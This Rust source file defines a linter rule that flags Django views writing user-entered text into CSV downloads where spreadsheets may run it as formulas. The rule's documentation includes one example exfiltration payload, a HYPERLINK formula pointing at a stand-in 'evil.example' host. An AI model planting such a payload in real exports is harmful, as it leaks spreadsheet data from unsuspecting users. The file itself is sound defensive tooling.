//! DJS607 `csv-formula-injection`: user-entered text written to a CSV export, where a
//! spreadsheet reads `=`, `+`, `-` and `@` as the start of a formula.

use tree_sitter::Node;

use super::Hit;
use crate::analysis::Severity;
use crate::analysis::python::PyChecker;
use crate::rules::{Family, FixAvailability, Rule};
use crate::semantic::node;
use crate::syntax::python::{Field, Fields};

pub const RULE: Rule = Rule {
    code: "DJS607",
    name: "csv-formula-injection",
    family: Family::Injection,
    severity: Severity::Hint,
    fix: FixAvailability::None,
    summary: "Non-constant text is written to a CSV export that a spreadsheet may read as formulas.",
    django_checks: &[],
    peers: &["semgrep:csv-writer-injection"],
    docs: r#"
## What it does
A hint on `writer.writerow(row)` / `writerows(rows)` of a `csv.writer()` or `csv.DictWriter()`
that writes an HTTP response, or is used in a view (an export a user downloads), when the row
holds text that is not constant: request data, or fields of objects (what users typed, stored
in the database).

Not reported: constant rows (headers), numbers (`int()`, `len()`, dates in ISO format), writers
outside views that write a file on the server, and defusedcsv's writers (which escape
formulas).

It is a hint, not a warning: whether a spreadsheet opens the file, and whether the text can start
with `=`, is for a person to judge.

## Why is this bad?
Excel and LibreOffice run a cell that starts with `=`, `+`, `-` or `@` as a formula: a user who
types `=HYPERLINK("https://evil.example/?"&A1, "click")` into a profile field gets a link that
leaks other cells, or, with DDE in old versions, runs commands on the computer of the admin who
opens the export.

## Example
```python
import csv

def export(request):
    response = HttpResponse(content_type="text/csv")
    writer = csv.writer(response)
    for user in User.objects.all():
        writer.writerow([user.username, user.first_name])
    return response
```

Use instead:
```python
import csv

def cell(value):
    text = str(value)
    return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text

def export(request):
    response = HttpResponse(content_type="text/csv")
    writer = csv.writer(response)
    for user in User.objects.all():
        writer.writerow([cell(user.username), cell(user.first_name)])
    return response
```

## Fix
No quick-fix: prefix cells that start with `=`, `+`, `-`, `@`, tab or carriage return with `'`
(a project helper, which configuration can declare under `taint-sanitizers.csv`), or use
`defusedcsv`.

## Fix safety
No fix is offered.

## References
- OWASP: [CSV Injection](https://owasp.org/www-community/attacks/CSV_Injection); CWE-1236
"#,
};

pub(crate) fn message(hit: &Hit) -> String {
    format!(
        "{} is written to a CSV export (`{}`): a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula; escape such cells",
        match hit.flow.level {
            crate::semantic::Level::Request => super::origin(&hit.flow),
            _ => "text that users may have entered".to_string(),
        },
        hit.label.clone()
    )
}

/// Whether a CSV writer's rows go to a download: the writer writes an HTTP response (or the
/// function builds one from what it writes, as a streaming export does).
pub(crate) fn writes_response(checker: &PyChecker, call: Node) -> bool {
    let src = checker.source();
    let Some(writer) = call
        .field(Field::Function)
        .and_then(|f| f.field(Field::Object))
    else {
        return false;
    };
    let Some(target) = writer_target(checker, writer) else {
        return false;
    };
    let target_text = node::text(target, src).to_ascii_lowercase();
    if target_text.contains("response") || target_text == "resp" {
        return true;
    }
    // The function that writes is a view, or returns a response it built
    // (`StreamingHttpResponse(...)`).
    checker
        .model
        .index
        .enclosing_function(call)
        .is_some_and(|f| {
            node::text(f, src).contains("Response(")
                || f.field(Field::Parameters).is_some_and(|p| {
                    let mut cursor = p.walk();
                    p.named_children(&mut cursor)
                        .any(|param| node::text(param, src) == "request")
                })
        })
}

/// The first argument of the `csv.writer(...)` / `csv.DictWriter(...)` call that built a writer.
fn writer_target<'t>(checker: &PyChecker<'t>, writer: Node<'t>) -> Option<Node<'t>> {
    let writer = node::unparenthesize(writer);
    let src = checker.source();
    let construction = match writer.kind() {
        "call" => writer,
        "identifier" => {
            let index = &checker.model.index;
            let bindings = index.bindings(index.scope_at(writer), node::text(writer, src));
            let binding = bindings
                .iter()
                .rfind(|b| b.node.end_byte() <= writer.start_byte())?;
            node::unparenthesize(binding.value?)
        }
        _ => return None,
    };
    (construction.kind() == "call")
        .then(|| node::positional_args(construction).first().copied())
        .flatten()
        .or_else(|| node::keyword_arg(construction, "csvfile", src))
        .or_else(|| node::keyword_arg(construction, "f", src))
}

/// Attribute names that hold numbers, dates or identifiers, not text a user typed.
const NUMERIC_NAMES: &[&str] = &[
    "id",
    "pk",
    "count",
    "total",
    "amount",
    "price",
    "quantity",
    "number",
    "year",
    "month",
    "day",
    "date",
    "created",
    "modified",
    "updated",
    "timestamp",
    "size",
    "score",
    "age",
];

/// Whether a row (a list, tuple or dict literal) holds only constants, numbers and fields whose
/// names say they are numbers or dates.
pub(crate) fn only_numbers(checker: &PyChecker, row: Node) -> bool {
    let src = checker.source();
    let row = node::unparenthesize(row);
    if !matches!(row.kind(), "list" | "tuple") {
        return false;
    }
    let mut cursor = row.walk();
    let items: Vec<Node> = row.named_children(&mut cursor).collect();
    items.iter().all(|item| {
        let item = node::unparenthesize(*item);
        let flow = checker
            .model
            .flow_for(item, crate::semantic::SinkKind::Formula);
        if flow.level <= crate::semantic::Level::Escaped || item.kind() == "comment" {
            return true;
        }
        let name = match item.kind() {
            "attribute" => item.field(Field::Attribute).map(|a| node::text(a, src)),
            "identifier" => Some(node::text(item, src)),
            _ => None,
        };
        name.is_some_and(|n| {
            let n = n.to_ascii_lowercase();
            NUMERIC_NAMES
                .iter()
                .any(|k| n == *k || n.ends_with(&format!("_{k}")) || n.ends_with("_at"))
        })
    })
}

#[cfg(test)]
mod tests {
    use crate::analysis::testing::codes_at_only;
    use crate::syntax::Language;

    fn codes(src: &str) -> Vec<(&'static str, usize, usize, &'static str)> {
        codes_at_only(Language::Python, src, &["DJS607"])
    }

    #[test]
    fn hints_on_text_written_to_an_export() {
        let src = "import csv\nfrom django.http import HttpResponse, StreamingHttpResponse\ndef export(request):\n    response = HttpResponse(content_type='text/csv')\n    writer = csv.writer(response)\n    writer.writerow(['Name', 'Email'])\n    for u in users:\n        writer.writerow([u.pk, u.username, u.email])\n    csv.DictWriter(response, fieldnames=['q']).writerow({'q': request.GET['q']})\n    return response\ndef stream(request):\n    w = csv.writer(Echo())\n    return StreamingHttpResponse(w.writerow([r.title]) for r in rows)\ndef buffer(request):\n    stream = io.StringIO()\n    csv.writer(stream).writerow(request.POST.get('title'))\n    return stream.getvalue()\n";
        assert_eq!(
            codes(src),
            vec![
                ("DJS607", 8, 9, "hint"),
                ("DJS607", 9, 5, "hint"),
                ("DJS607", 13, 34, "hint"),
                ("DJS607", 16, 5, "hint"),
            ]
        );
    }

    #[test]
    fn silent_on_numbers_headers_and_files() {
        let src = "import csv\ndef export(request):\n    response = HttpResponse(content_type='text/csv')\n    writer = csv.writer(response)\n    writer.writerow(['Name', 'Count'])\n    writer.writerow([o.pk, o.total, o.created_at, len(o.items)])\n    return response\ndef dump(path, rows):\n    with open(path, 'w') as f:\n        w = csv.writer(f)\n        w.writerow([r.name for r in rows])\n";
        assert_eq!(codes(src), vec![]);
    }
}
